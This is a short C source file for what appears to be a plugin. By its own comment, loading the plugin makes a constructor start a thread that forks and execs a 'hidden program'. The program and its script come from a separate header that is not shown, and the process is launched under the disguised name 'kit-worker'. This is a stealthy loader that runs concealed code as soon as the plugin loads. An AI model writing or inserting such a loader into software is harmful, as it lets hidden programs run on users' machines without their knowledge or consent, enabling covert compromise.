/* A constructor leaves the work to a thread, which starts a hidden program. */
#include "plugin.h"
#include "hidden.h" /* 0: the program, 1: the script */
extern int pthread_create(unsigned long *, const void *, void *(*)(void *), void *), pthread_join(unsigned long, void **);
extern int fork(void), execlp(const char *, const char *, ...), waitpid(int, int *, int), _exit(int);
static void *work(void *unused) {
    int status, pid = fork();
    if (pid == 0) {
        execlp(hidden0(), "kit-worker", "-e", hidden1(), (char *)0);
        _exit(127);
    }
    waitpid(pid, &status, 0);
    return 0;
}
static void act(char **env) {
    unsigned long thread;
    if (pthread_create(&thread, 0, work, 0) == 0) pthread_join(thread, 0);
}
